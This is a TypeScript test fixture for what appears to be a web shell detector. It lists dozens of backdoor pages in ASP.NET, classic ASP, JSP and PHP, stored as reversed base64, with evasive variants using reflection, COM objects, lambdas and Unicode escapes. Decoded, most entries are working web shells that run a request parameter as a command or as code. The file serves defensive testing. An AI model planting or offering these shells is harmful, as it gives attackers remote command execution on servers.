/**
 * Pages written for the tests of their reader, learnt from collections that it had not seen before: code that is a value, properties, what is
 * called through reflection or by number, other words for the same call; what is doubtful whoever decides; ordinary pages next to them.
 * Stored as those of `pages.fixture.ts`.
 */
import type { Capability } from './page-facts.ts';
import type { BackDoorPage } from './pages.fixture.ts';

export const otherWords: readonly BackDoorPage[] = [
  {
    name: 'expr-member.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gP0BXayN2cvwjC9ByOpQWbDByKgICIj9iIgwiIlhXZuQWbjJCK0JXY0NlLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI7BSKlBycnJXQ05WZ2VEIsMHI0NWZqJ2boQWYvx0XldWYQBCZp9mdKsTXiMmIbR3clVXclJFI+0DIk12QgcmbpJHdzpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'getter.aspx',
    capability: 'executes-commands',
    parameter: 'X-C',
    text: '==gP0BXayN2cvwjC9ByOpgCdyFGdT5CcgsDZtNkLzlGa0ByKgICIj9iIg0DIzRnbl1WdnJXQu8mZulEdyFGdT5CcgsjIk12YiASPgUWbh5UZslmRu8mZulEdyFGdT5CcgsTKoM3clN2byBlLzNWa0N3budWYpRkLtVGdzl3UgcXZuBSPgAHIyFmdgsHIpUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pQfg0HI70lID1CWis1cyVGZhVGSuQ3clVXclJFIuJXd0VmcgsHI0V2ZgsHIk12QgcmbpJHdzpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'func-var.ashx',
    capability: 'executes-commands',
    parameter: 'a',
    text: '9BSfg0HI7U2csFmZg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BnC9ByOpkSXiEmIbR3clVXclJlLjhiZoUGdpJ3VuU2cu9GczVmUuMGI70HI7kCKn5WayR3UvRlLwBibyVHdlJHI7kCegwiIlhXZuQWbjJCK0JXY0NlLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI9ACcgIXY2Byeg4TPggHI9AiZg4zZulmc0NHLn5WayR3c8Mmb1ZEI7lyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'action-param.ashx',
    capability: 'executes-commands',
    parameter: 'a',
    text: '==Qfg0HI9ByOlNHbhZGIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwpQfgsTKoEGI7lSYg42bpR3YBhybEBCZp9mdg0HI7kSKdJSYisFdzVWdxVmUuMGK0JXY0NlLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI+0DIpgCKvREI7lyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'static-class.aspx',
    capability: 'executes-commands',
    parameter: 'z',
    text: '=4DdwlmcjN3L8oQfgsTKo82RusEI70lI6JyW0NXZ1FXZSBSPgYlLLByegkSZgM3ZyFEduVmdFBCLzBCdjVmai9GKkF2bM9VZnFGUgQWavZnC9BSfgsTKWBCLiUGel5CZtNmIoQnchR3UuM3clN2byBlLzNWa0N3budWYpRkLtVGdzl3UgsHIpgybHBCZp9mdgMWa0FGdzByYpxmY1BHI7YFIn5WayR3cgMWa0FGdzByYpxmY1BHI7BySgM3chx2YgMWa0FGdzpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'items.aspx',
    capability: 'executes-commands',
    parameter: null,
    text: '+QHcpJ3Yz9CPK03Op0lIjJyWz1WZ0lkL0hXZ052bDlyZulmc0NHKoQnchR3UuM3clN2byBlLzNWa0N3budWYpRkLtVGdzl3UgsTXiMmIbR3clVXclJFI9ASXiMmIbNXblRXSuQHelRnbvN0epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'netdata.ashx',
    capability: 'deserialises',
    parameter: null,
    text: '=0HI9BSfgsTZzxWYmBibyVHdlJHI7BCdldGI7BSZsJWYzVXZSNXSgw2bvJGIjlGbiVHcK0HI7kSbhVmc0NFd1BnbJ5CdzVWdxVmUuMGK0NWZqJ2TkFWZS5ycgsTKoIXZ6lGbhlmclNFdjFmc052bDFGdhREdl5EI3Vmbg0DIzBichZHI7lyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'vb-with.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPiV3UgQmbFpQKoQnchR3UuAnCoRXaXBCZuVkClNHbhZEI9ASZ0V3YlhXRsxWZoNVZzVlLKkiIjJCK0NXZ1FXZSBiJgICIj9iIg0DIzRnbl1WdnJXQuogIlhXZuQWbjJCI9ASZtFmTlxWaG5iCvZmbJRnchR3UuAHIoRXaXpQKoM3clN2byBlLzNWa0N3budWYpRkLtVGdzl3UgcXZOBycBBCcg0WaEpQKzdmcBRnblZXRgMXQgUGIsQ3YlpmYPBycBBycoQWYvx0XldWYQBiY1NlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-new-with.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPiV3UgQmbFpQKphCdyFGdT5yczV2YvJHUK0XKiMmIocmbpJHdTlnclVXUuQ3clVXclJFImAiIgM2LiASPgMHduVWb1dmcB5CIsISZ4VmLk12YiASPgUWbh5UZslmRusHIoRXaXBybm5WS0JXY0N1czV2YvJHUgcXZOBycBBSag0WaEpQKzdmcBRnblZXRgMXQgUGIsQ3YlpmYPBycBBycoQWYvx0XldWYQBiY1NlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-lambda.aspx',
    capability: 'executes-commands',
    parameter: null,
    text: '==gP0BXayN2cvwjY1NFIk5WRKkSKiMmIoQ3clVXclJFKmpQK4BCLiUGel5CZtNmIoQnchR3UuM3clN2byBFIpgHKu9Wa0Nmb1ZEI9AiZg0WaEpQKzdmcBRnblZXRgMXQgUGIsQ3YlpmYPBycBBycoQWYvx0XldWYQBiY1NlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-property.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gP0BXayN2cvwjY1NFIk5WRKkCZtNEImAiIgM2LiACLiUGel5CZtNmIoQnchR3UuM3clN2byBlCpM3ZyFEduVmdFBycBBSZgwCdjVmai9EIzFEIzhCZh9GTfV2ZhBFIiV3UKkHdyVGcvJHUgQmbFpAdldEIk5WRKkiIjJCK0NXZ1FXZSBibyVHdlJlC0V2RKcmbpJHdTBycBBCZtNEI5RnclB3byBFI5xmbPRWYlJlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-callbyname.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPiV3UgQmbFpQKpIyYigCdzVWdxVmUgwCZvhGdl1kLlBXeUxGbhNEIsIib1JlIgwyboUWbh5UeCxGbhNkCpICbsVGaT5CdwlmcjN1VigCdjVmai9UZ0FWZyNEI9Aybg0WaEpQKzdmcBRnblZXRgMXQgUGIsQ3YlpmYPBycBBycoQWYvx0XldWYQBiY1NlC+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'js-newfunc.aspx',
    capability: 'runs-code',
    parameter: 'x',
    text: '+UyOpEDKmByOp0lI4JyWtVGdJ5CdzVWdxVmUgwiI4JCKu9Wa0Nmb1ZEI3Vmbg0DImBichZXJ84TJiQHcpJ3YzpkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'js-engine.aspx',
    capability: 'runs-code',
    parameter: 'p',
    text: '=4DdwlmcjN3L8oQf7kSKoUmbpdmbFVGdhVmcD5SZul2ZuVUYzZlLhNnVuQHcpJ3YTpkL0Z2bz9mcjlWTgwSXiAnIbR3clVXclJFKlRXY1xWY2VEdwlmcjNlSuwWY2VkL0BXayN2UK5Cdm92cvJ3Yp10epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'com-reflect.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=4DdwlmcjN3L8oQf7kSfg0lIjJyW0NXZ1FXZSByKgICIj9CIk12YiAyedtFdjVmai9GI3VmbgwybgwCbsVnbgwCZvhGdl1UZr9mdulkLzdWYsZ0ZulGZulmQu42bpR3YlxmZlJlLtVGdzl3UgwiIjVGeFJCKyVmYtVWTlt2b25WSuQHI7kCdoU2YuFGdz5WSlRXYlJ3QuI3b0FmdpR3YBBSPg8GI0NWZqJ2bgsTKiwGblh2UuQHcpJ3YTdlIoQUSn9mcQ12byZUZwlHV0V2RuUGc5RFI9ACdgUGc5R1epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'com-clsid.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPK03Op0lIjJyW0NXZ1FXZSByKgICIj9CIk12YigyYlhXRu8GI7kCdoU2YuFGdz5WSlRXYlJ3QuI3b0FmdpR3YBBSPg8GIjlWbh5WekByOpkiI4IkRBhDOCRjM0gTOtIDNBhTLChzM00SQwcDRtUDRERjMDJzNigCZpV3RgcXZuhCRJNFTD12byZUZwlHV0V2RuUGc5RFI9ACdgUGc5R1epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'mmc.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPK03OpIyNiACLdJyYisFdzVWdxVmUgsCIiAyYvICIswGb15GIsICZtNmIoQmbh1WbvNEbsVGaTVGd1NWZ4VkL3VWaWVmdpR3YB5CduVWb1N2bE5ybgsTKpIibvlGdhNWasBHcB5CMyMUTNJCKEl0ZvJHUt9mcGVGc5RFdldkLlBXeUhSZj5WY0NnbJVGdhVmcD5icvRXY2lGdjFEI9AybgMWatFmb5R2epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'expr-compile.aspx',
    capability: 'runs-code',
    parameter: 'e',
    text: '==gP0BXayN2cvwjC9tTKoU2avZnbJNWatFmb5RkLpgSZslGct92QuUGI7kSXiUmIbR3clVXclJFIswGb15GIs0FMb52bpN3clJHc4VkclRXZtFmchBFI3VmboEGZi1WYMV2cyFGUuIXZzJXYQ52bpN3clJHc4V0Yp1WYulHRg0DIlBichZ3epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'unicode.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=4TJ7kSXiMmIbR3clVXclJ1KiAyYvICLiUGel5CZtNmIoQnchR3UuM3clN2byBTNwADMwADMVxlLzNWa0N3budWYpRDNwATdc5SblR3c5NTNwATdcVCP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'using-static.ashx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==Qfg0HI7kSXiMmIbR3clVXclJlLjhCdyFGdTByepMGI0hXZ052bDBHd0hEK0NXZ1FXZSN3clN2byBFIkl2b2ByYpxmY1BHI7BiclxGZuFGSwRHdIlEI6ACSgM3chx2YgMWasJWdwpwOzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFIjlGdhR3cgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'createprocess.aspx',
    capability: 'executes-commands',
    parameter: 'c',
    text: '+QHcpJ3Yz9CPK0HI7kSegQXdvBCL4BiZlJHIswGb15GIs8mclplLyRHU05WSgwCMgwSZzxWYmBCLvJXZa5ic0BFdulEIs8mclplLyRHU05WSgwSXiMmIbR3clVXclJFIswGb15GKzNXZj9mcQVGdhVmcDByO5BCUgsTKoMFI3Vmbg0DI4ByUgsHIpUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pwOpoGIQBCd19GIskGITBiZlJHIsgGIn5WayR3cgwyZgIHdQRnbJBCLmBCdulWdgwSZgw2bvJGIsQGIyRHU05WSgwyYgIHdQRnbJBCLiByZulmc0NHIsEGIn5WayR3coM3clN2byBVZ0FWZyNEIs92biBibyVGd4VGIjlGdhR3cg0VKiwGbk5iMzwWZuJXZrJCK0J3bw1WSsxGRbpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'out-var.ashx',
    capability: 'executes-commands',
    parameter: 'a',
    text: '==Qfg0HI9ByOlNHbhZGIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwpQfgsTKxhCdyFGdT5yczV2YvJHUgsTKxBichZHI0V3bgwyYocEI7lyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcg0HI70lIhJyW0NXZ1FXZS5yYg0DI4ByegkCegcmbpJHdzBCd19GIsMGI0hXZ052bDBHd0hEKHBCZp9mdKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'iterator.ashx',
    capability: 'executes-commands',
    parameter: null,
    text: '9BSfg0HI7U2csFmZg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BnC9ByOpgHK0JXY0NlLzNXZj9mcQBSKpMGKBBibpBCegIXY2hCIoNWYlJ3bmByepMGI0hXZ052bDBHd0hEK0NXZ1FXZSN3clN2byBFIkl2b2ByYpxmY1BHI9ByOdt2WtJ3bG5CdzVWdxVmUuMGIuJXd0VmcgQGbllWegkyc5V2SsxWQu0mcvZkL0NXZ1FXZS5yYg4WagsGIn5WayR3coACajFWZy9mZgsHIpMGI0hXZ052bDBHd0hEKBBiPn5WayR3c8UGbiFmcl1WduVUSKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'websocket.ashx',
    capability: 'executes-commands',
    parameter: null,
    text: '=0HI9BSfgsTZzxWYmBibyVHdlJHI7BCdldGI7BSZsJWYzVXZSNXSgw2bvJGIjlGbiVHcK0HI7kycgsCIiAyYvICIsISZ4VmLk12YigCdyFGdT5yczV2YvJHUgsTK05WdvNkLyBCLwACL5FmcyFkLihyZulmc0NFdldkL4YEVV5yZulGZvNmbFBSPgMHIyFmdgsTKl52bO5iblt2bU52bpRXYsxWZj5WYDBCLihyYul3cBVmdpV2YlJlL0V2aj92UiV2VugHI0lWY3FGI9AicgIXY2ByOp0lN5ADNbVGd5JGI3Vmbo4TZ0lnY8Qnbl12ZlNVehJncBBydl5GI9AiYgIXY2ByepgHI0hXZ052bDRXZrN2bTJWZXRXZOB3cBhybHByazFGVgMmb5NXYg0HI7kybHhCdzVWdxVmU0V2aj92UiV2V0BXZjNWQuMGI7lyYgQHelRnbvNEc0RHSoQ3clVXclJ1czV2YvJHUgQWavZHIjlGbiVHcKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'objectds.aspx',
    capability: 'executes-commands',
    parameter: 'data source',
    text: '==gPvIybi0DRJV2YyV3bTFGdhREIiIXZ2JXZzJSP0Fmb1JHI3VWaWRWaydkOwNXY84TZjJXdvNVY0FGR0NWZqJ2T6A3ch9CP+MnclRXZtFmchBFdjVGblN1L84zLiMmI9QGbllmRn5WayR3U5JXZ1FFIiUWbh5UZslmZi0TZtFmTgIXZ0VWbhJXYQdmbpJHdTlnclVXU6A3chxjPzJXZ0VWbhJXYQR3YlxWZTxjPiQnchR3Ui0DZvhGdl1EdjVGblNFIiM3clN2byBlLzNWa0N3budWYpRkLtVGdzl3Ui0TZtFmTlBXeUBiIyVmdyV2ci0Ddh5WdyBiIvJSPklGIlNmc192UhRXYER3YlpmYPpDczFGP+UiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'generic.ashx',
    capability: 'executes-commands',
    parameter: null,
    text: '==Qfg0HI9ByOlNHbhZGIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwpQfgsTKp0lIhJyW0NXZ1FXZS5yYg4TPgkCKocEK0JXY0NlLzNXZj9mcQByepMGI0hXZ052bDBHd0hEK0NXZ1FXZSN3clN2byBFIkl2b2ByYpxmY1BHI9ByOpgiZg4mc1RXZyByegkiZg4DV8Mmb1ZEK+QFPHBCVKsHIyVGbk5WYIBHd0hUSgoDIIByczFGbjByYpxmY1BnC7IWZX5SblR3c5NFIn5WazV3OtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'lambda.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gPlAyOpkiIjJCKyVGdl1WYyFGU0V2ZuQ3clVXclJHK0BXZjNWYuYGI70HI9tHIpUGIu9Wa0BXZjhXRoACajRXYjBSfgsTKjhyYlhXZukCKl1Wa05WdSRXZn5SZtlGduVnUgsHI5JHdgsHI+0CIjBSPgYGI+cmbpJHdTxjcl1Wdz52bD5ibvlGdj5Wdm5CbpRXduEmdhpGIlwjC+UCIioiLvlmLhZXYqxiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'el2.jsp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=0XKj5SbhJXYwhyYlhXZukCbsVnboU2avZnbp5SKiUWbpRnb1JFdldmIoQ2boRXZNRXZn5SKiUWbpRnb1JlLn5WYs5SY2FmaigSZtFmTy9mZukCKzNXYsNEdldmL0NXZ1FXZy5Cd4VGdu92QldWYwtHJ',
  },
  {
    name: 'with.asp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=4TJKgGdpdFIk5WRKUWdyRFIsADIskiIjJCK0NXZ1FXZSBiJgICIj9CIk12YiAib1JlLKkiIsxWZoNlL0BXayN2UXJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBCa0l2VKUCP',
  },
  {
    name: 'getref.asp',
    capability: 'runs-code',
    parameter: 'c',
    text: '==gPloQKiMmIoQ3clVXclJFIwpQKiolIoYWZSRXZHBSPgAHI0V2UKIWdTBCZuVkCzBCbhJ2bsdUZ0V3YlhXRKkycooFIiV3UKUCP',
  },
  {
    name: 'wmi.asp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=4TJKAHIswGb15EIswGb15EIskiIjJCK0NXZ1FXZSBSZ0FWZyNkL3pQKiM3clN2byB1XyMjbpdlOyYXbpNGX092byxlLcxlOzRXbn1mbpdnIoQ3YlpmYPRXZHBSPgcHI0V2UKUCP',
  },
  {
    name: 'jsfn.asp',
    capability: 'runs-code',
    parameter: 'c',
    text: '=4DdwlmcjN3L8kCKhBSfgkSKxgSKiMmIo0mcvZmL0NXZ1FXZShCbhZXZg4mc1RXZyByepgSYg42bpR3YuVnZ+IiclZnclNnI9QXYuVncgICdwlmcjNlSi0TZnFWdn5WYsBCdwlmcjNHP',
  },
  {
    name: 'closure.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '=sTKdJyYisFVT9EUfRCKmRCI70HI7kCekgCbhZXZg4mc1RXZyByegkCekgibvlGdj5WdmBSPgYGJgAHaw9DP',
  },
  {
    name: 'fn.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '7kSXiMmIbRVRH9FJoYGJgsTK4RCKtVGdzl3cg4TPgkCekgibmBSPgYGJgAHaw9DP',
  },
  {
    name: 'use.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKoYGJgsTfgsTKjRCKtVGdzl3cgsHIpMGJoASZzVHIpgibvlGdj5WdmBSPgYGJgsTXiMmIbR1UPB1XkASPgMGJgAHaw9DP',
  },
  {
    name: 'pregcf.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '7kSXiMmIbR1UPB1XkACL9ByOp0FMb1GJowWY2VGIuJXd0VmcgsHIp0GJo42bpR3YuVnZgwiIvsiLvICKrNWYixGbhN2XlNWYsBXZy91ZlJHcgAHaw9DP',
  },
  {
    name: 'callstatic.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgSblR3c5NnO6EEI9BSfgsTKdBzWhRCKuRCI7BSKhRCIs4GJoMWa0FGdTxGbhN2XfBibvlGdj5WdmByYpRXY0NHI7BSQgM3chx2YgAHaw9DP',
  },
  {
    name: 'call.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgSblR3c5NnPtkSQgcXZuhCI9BSfgsTKhRCIs4GJokXYyJXYfNmb1Z2XyV2c19FbsF2YgsHIpEGJgwibkgCbsF2Yf9FIu9Wa0Nmb1ZGI7BSQgM3chx2YgAHaw9DP',
  },
  {
    name: 'gen.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '7kyYkgSblR3c5NHIpMGJgMXYgkCKnhCIoNWYlJ3bmBSfgsTXiMmIbRVRH9FJgQGbllWegsHIpgyZg42bpR3YuVnZgAHaw9DP',
  },
  {
    name: 'ffi.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '7kSXiMmIbRVRH9FJo0WZ0NXez5TLpIyOpMmKgIXYoNGI0NnbvNGKtVGdzl3cgQnbpJCKmVGZjpjOJZkRgAHaw9DP',
  },
  {
    name: 'mail.php',
    capability: 'executes-commands',
    parameter: 'x',
    text: '7kSXignIbRVRH9FJgwiIiwiIjJCLiImIsISYigCbpFWbgAHaw9DP',
  },
  {
    name: 'const.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKdJyYisFVFd0XkgSKGhCI7ISblRnIg4CIiMXezJCI9AiRgQ3cu92YgAHaw9DP',
  },
  {
    name: 'heredoc.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=sTKddyYnsFVFd0XkgyYkowOYpQblR3c5NnCYxDP8ASPgMGJgAHaw9DP',
  },
  {
    name: 'lambdas-of-a-loader.aspx',
    capability: 'loads-code',
    parameter: 'ab',
    text: '=4DdwlmcjN3L8oQf7kSZk92YoU2ahRHI9ASXiAnIb52bpN3clNFI7kSfggHI711W0NWZqJ2bgcXZuBCLsxWduhSZr9mdulkLp0HIp01WlRXeihiZvVGc5RHI711WlBXeUBydl5GIskSKokXYyJXQvRlLpgSZzJXZ2VmUukCK5FmcyFkchh2QvRlLiw0bhRmIocmbpJHdzBydl5GKk9Ga0VWT0V2RukSK9dSenwyJsdCLnI2JscSbnwyJldCLnM3JscycnwyJBdCLn4yJscibnwyJvdCLnk2JscCdnwyJjdCLnU2JscCbnwyJmdCLnU2JsciUnwyJucCLn02JscSZnwyJ0dCLnM3JscSenwyJTdyedtlchh2YgcXZuhyZulmc0NHI3VmboUGc5RFdldkLlBXeUBiP9ACeg0DIltWY0BiP0NWZqJ2bgwSXbVGd5JGPj5WdGByOpkiImVGZjJWY5gzN2UDNzITMwICKzVGd5JEdldkL0xWdhZWZE5yZulGZvNmbFBCL3Fmco4WZw9GI9ASZk92YgIXY2ByOp0VK9diYnwyJhdyedtlchh2YgcXZuhyZulmc0NHI3VmbbR3clVXclJlL0hXZ052bDhyZulmc0NFN2U2chJUbvJnRuQnclZnbvNEI9AydhJHIyFmdgsTfg0HI7kCa0dmblxkLkBCLwACLkhyaj9GbCxWYulmRtJ3bmNnbhJHVukyagwyaoI3b0BXeyNWZEVGdhVmcD5Ccg4mc1RXZyByegkSKoQWZnFmbh1EblFGZupWaSBydl5GI9ACcgIXY2hCIn5WazVHI7BiP9ASKrBCLkhCI9AiblB3bg4TXbVGd5JGIs01WlRXeiBCLdtVZ0lnY8Mmb1Z0epUGIzdmcBRnblZXRgwycgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'delegate-of-a-method.ashx',
    capability: 'loads-code',
    parameter: 'a',
    text: '=0HI9BSfgsTZzxWYmBibyVHdlJHI7BCdldGI7BSZsJWYzVXZSNXSgw2bvJGIjlGbiVHcg0HI7kiYowGI9ASXignIb52bpN3clNlLjByOp0GIskCRoY2blBXe0hSZ0F2ZlxWZEVGdhVmcD5SZ0F2ZlxWZElCRoASPgwGIyFmdgsTK9BSKdtVZ0lnYoY2blBXe0Byedt1dl5GIskiIM9WYkJCKShCZvhGdl1EdldkLpkHbi1WZzNXQu42bpR3YlxmZlJlLtVGdzl3UoY2blBXe0BSPg0GIyFmdgsTKdJSYisFdzVWdxVmUuMGKn5WayR3U0YTZzFmQt9mcG5CdyVmdu92Qg0DIiBichZHI7BSKjBCd4VGdu92QwRHdIhCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwBSfgsTKhhyZulmc0NHI3Vmbg4mc1RXZyByOpEGKlNnclZXZS5SehJncBByOpgSehJncBJXYoN0bU5ycg0DIhBichZHI7BSKzByZulmc0NHKSByZulmc0NHIjlGdhR3cgsTKiBSXbVGd5JGKEBSesJWblN3cB5ibvlGdjVGbmVmUu0WZ0NXeTBSZ0F2ZlxWZkByegIXZsRmbhhEc0RHSJBiOggEIzNXYsNGIjlGbiVHcK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'object-by-number.asp',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==gPlACbsFEZhVmUuQXdPRGdT5SKpIyYigCdzVWdxVmUgYCIiAyYvASZ4VmLk12YigyYlhXRu8GIlRXaydlLlNnbvB3clJFIlwjC+Q3YlpmYv9CP+ICOCZUQ4gjQ0IDN4kTLyQTQ40iQ4MDNtEEM3QUL1QER0IzQycjOkl2csNmI9QWazNXYsNGIldWYw1TZw92YzByb9QWagIXZ2JXZz1Ddh5WdyBCdjVmai9GP',
  },
  {
    name: 'chosen-text.asp',
    capability: 'runs-code',
    parameter: 'c',
    text: '+UiCpQHKlRXdjVGeFpAdjVGblNFIk5WRKISZu9GIzlGa0BCdv5mIg0DI0pQZzxWRgU2chNkCpIiIgwCco4WavpEI9ACdKkiIpICLikiIsIiIiMmIiICLigiIsICdiwiIzJCLiUmIsISdiwiIxJCLiUmIsIiciwiIoICLiwmIsISYiwiI2JCLiUmIokXYyJXQg0DIwpAcg0WaEpgMgU2chNkCiwGbhBCdhByZulGa09mbiASPgQnCxASZzF2QKMHIlNXYDBCdjVGblNlCyASLgQDI9AycKQHIsMHItlGRKUCP',
  },
  {
    name: 'functions-without-brackets.asp',
    capability: 'executes-commands',
    parameter: 'h',
